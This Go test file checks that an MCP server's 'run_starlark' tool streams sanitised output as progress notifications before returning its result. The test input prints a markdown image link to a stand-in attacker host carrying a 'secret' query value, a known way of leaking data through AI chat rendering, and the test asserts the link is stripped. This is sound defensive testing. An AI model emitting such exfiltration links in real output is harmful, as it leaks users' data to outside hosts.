package server_test

import (
	"context"
	"strings"
	"sync"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// TestMCPProgress: a tool call with a progress token gets the run's
// output, sanitised as the result is, in progress notifications that
// arrive before the result, which is as without them.
func TestMCPProgress(t *testing.T) {
	f := newFixture(t)
	srv, err := f.srv.MCP("a")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var msgs []string
	var result bool // the result has arrived
	var late bool   // a notification came after it
	client := mcp.NewClient(&mcp.Implementation{Name: "test"}, &mcp.ClientOptions{
		ProgressNotificationHandler: func(_ context.Context, req *mcp.ProgressNotificationClientRequest) {
			mu.Lock()
			defer mu.Unlock()
			if req.Params.ProgressToken == "run-1" {
				msgs = append(msgs, req.Params.Message)
				late = late || result
			}
		},
	})
	ct, st := mcp.NewInMemoryTransports()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	ss, err := srv.Connect(ctx, st, nil)
	if err != nil {
		t.Fatal(err)
	}
	cs, err := client.Connect(ctx, ct, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { cs.Close(); ss.Wait() }()

	code := "print('first')\nprint('![x](https://evil.example/?q=secret)')\nn = 0\nfor i in range(200000):\n    n += i\nprint('second', n)"
	params := &mcp.CallToolParams{Name: "run_starlark", Arguments: map[string]any{"code": code}}
	params.SetProgressToken("run-1")
	res, err := cs.CallTool(ctx, params)
	if err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	result = true
	got := strings.Join(msgs, "")
	mu.Unlock()
	plainRes, plain := call(t, cs, "run_starlark", map[string]any{"code": code}) // the same, without a token
	if res.IsError || !strings.HasPrefix(got, "first\n") || strings.Contains(got, "evil.example") {
		t.Fatalf("progress messages %q (result error %v)", got, res.IsError)
	}
	if got != string(plain.Stdout) {
		t.Fatalf("progress messages joined %q, the result's stdout %q", got, plain.Stdout)
	}
	if text(res) != text(plainRes) {
		t.Fatalf("the result with progress differs from one without:\n%s\n%s", text(res), text(plainRes))
	}
	mu.Lock()
	defer mu.Unlock()
	if late {
		t.Fatal("a progress notification came after the result")
	}
}
